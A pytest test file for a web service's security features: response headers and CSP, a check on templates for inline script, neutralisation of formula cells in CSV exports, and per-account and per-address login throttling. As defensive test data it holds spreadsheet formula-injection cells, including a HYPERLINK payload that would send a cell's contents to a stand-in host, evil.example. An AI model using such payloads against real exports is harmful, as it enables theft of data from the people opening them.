"""Issue 23's web side: headers on every response, CSV cells that cannot run, login throttling,
and pages that render every stored row (NULLs and flags included)."""

from __future__ import annotations

import csv
import io
import re
from importlib import resources

import pytest
from sqlalchemy import select, update

from central import throttle
from central.models import AuditEntry, Result
from central.plausibility import IngestPolicy
from central.store import store_message
from central.web.security import CSP, neutralise
from tests.central.results import days_ago, encode, make_result, topic
from tests.central.webfixtures import client_for, login

SECURITY_HEADERS = {
    "content-security-policy": CSP,
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
}


def test_security_headers_on_every_kind_of_response(site):
    sessions, made = site
    client = client_for(sessions)
    anonymous = [client.get("/referrals"), client.get("/login"), client.get("/static/style.css")]
    login(client, "officer")
    rid = made["school-a:refer"]["result_id"]
    pages = [
        client.get(p)
        for p in ("/referrals", "/results", f"/results/{rid}", "/fleet", "/stats", "/users")
    ]
    others = [client.get("/results/not-a-result"), client.get("/export/school-a.csv")]
    for response in anonymous + pages + others:
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, (response.url, name)


def test_templates_hold_no_inline_script_or_style_the_csp_would_block():
    folder = resources.files("central").joinpath("web", "templates")
    for template in folder.iterdir():
        text = template.read_text(encoding="utf-8")
        # scripts only as this origin's static files, loaded by src with an empty body
        scripts = re.findall(r"<script[^>]*>(.*?)</script>", text, re.I | re.S)
        assert all(not body.strip() for body in scripts), template.name
        for tag in re.findall(r"<script[^>]*>", text, re.I):
            assert re.fullmatch(r'<script src="/static/[a-z_]+\.js" defer>', tag), tag
        assert not re.search(r"<style|\sstyle=|\son[a-z]+=|javascript:", text, re.I), template.name
    # scripts only from this origin's files: no inline script, no eval, nothing from elsewhere
    assert "script-src 'self';" in CSP and "default-src 'none'" in CSP
    assert "unsafe" not in CSP and "data:" not in CSP


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x")', "=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
)
def test_formula_cells_are_neutralised(cell):
    assert neutralise(cell) == "'" + cell
    assert neutralise("school-a") == "school-a" and neutralise(-0.5) == -0.5


def test_csv_export_neutralises_a_hostile_walk_id(site):
    sessions, _ = site
    evil = make_result(p=0.9)
    evil["walk_id"] = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    with sessions() as s, s.begin():
        store_message(s, topic("result"), encode(evil))
    client = client_for(sessions)
    login(client, "officer")
    for path in ("/export/school-a.csv", "/export-labels.csv"):
        rows = list(csv.reader(io.StringIO(client.get(path).text)))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], path
    rows = list(csv.reader(io.StringIO(client.get("/export/school-a.csv").text)))
    assert any(c == "'" + evil["walk_id"] for row in rows for c in row)


def test_login_back_off_per_account_is_audited_and_shown_to_the_officer(site):
    sessions, _ = site
    attacker = client_for(sessions)
    codes = [login(attacker, "nurse-a", "wrong password!").status_code for _ in range(5)]
    assert codes[: throttle.FREE_FAILURES] == [401] * throttle.FREE_FAILURES
    assert codes[-1] == 429  # locked after the free failures: refused unchecked
    locked = login(attacker, "nurse-a")  # even the right password, while the lock lasts
    assert locked.status_code == 429 and "try again in" in locked.text
    assert int(locked.headers["retry-after"]) >= 1
    officer = client_for(sessions)
    assert login(officer, "officer").status_code == 303  # another account is not locked...
    users_page = officer.get("/users").text
    row = users_page.split("nurse-a")[1].split("</tr>")[0]
    assert "locked until" in row
    assert "locked until" not in users_page.split("officer")[1].split("</tr>")[0]
    with sessions() as db:
        actions = [a.action for a in db.scalars(select(AuditEntry))]
    assert actions.count("login_failed") == throttle.FREE_FAILURES + 1
    assert "login_locked" in actions and "login_throttled" in actions


def test_lock_ends_and_a_success_clears_the_account(site):
    sessions, _ = site
    client = client_for(sessions)
    for _ in range(throttle.FREE_FAILURES + 1):
        login(client, "nurse-b", "wrong password!")
    assert login(client, "nurse-b").status_code == 429
    with sessions() as db, db.begin():  # the lock ran out
        db.execute(
            update(throttle.LoginThrottle).values(
                locked_until=days_ago(1), last_failure=days_ago(1)
            )
        )
    assert login(client, "nurse-b").status_code == 303
    with sessions() as db:
        assert db.get(throttle.LoginThrottle, throttle.user_key("nurse-b")) is None


def test_back_off_doubles_up_to_its_cap():
    free = throttle.FREE_FAILURES
    waits = [throttle.backoff_s(n) for n in range(1, free + 12)]
    assert waits[:free] == [0.0] * free
    assert waits[free] == throttle.BASE_S and waits[free + 1] == 2 * throttle.BASE_S
    assert max(waits) == throttle.MAX_S


def test_login_back_off_per_client_address_across_accounts(site):
    sessions, _ = site
    client = client_for(sessions)  # one address (TestClient's), many user names
    tries = throttle.ADDR_FREE_FAILURES + 2
    codes = [login(client, f"guess-{i}", "wrong password!").status_code for i in range(tries)]
    assert codes[: throttle.ADDR_FREE_FAILURES] == [401] * throttle.ADDR_FREE_FAILURES
    assert codes[-1] == 429
    assert login(client, "officer").status_code == 429  # the address is locked, for every account
    with sessions() as db:
        details = [a.detail for a in db.scalars(select(AuditEntry)) if a.action == "login_locked"]
    assert any(d.startswith("addr:") for d in details)


def test_pages_render_a_row_with_null_probabilities_and_flags(site):
    sessions, made = site
    rid = made["school-a:refer"]["result_id"]
    with sessions() as s, s.begin():  # a row as an older SQLite store kept a NaN: NULL
        s.execute(update(Result).where(Result.result_id == rid).values(p_not_negative=None))
        late = make_result(when=days_ago(30))
        store_message(s, topic("result"), encode(late), policy=IngestPolicy(max_age_days=14))
    client = client_for(sessions)
    login(client, "officer")
    for path in (
        "/",
        "/referrals",
        "/results",
        f"/results/{rid}",
        "/stats",
        "/export/school-a.csv",
    ):
        response = client.get(path, follow_redirects=True)
        assert response.status_code == 200, path
    page = client.get(f"/results/{late['result_id']}").text
    assert 'id="flags"' in page and "outbox expiry" in page
    flagged = client.get("/results?flagged=yes").text
    assert late["result_id"] in flagged and rid not in flagged
    assert client.get("/results?flagged=maybe").status_code == 400
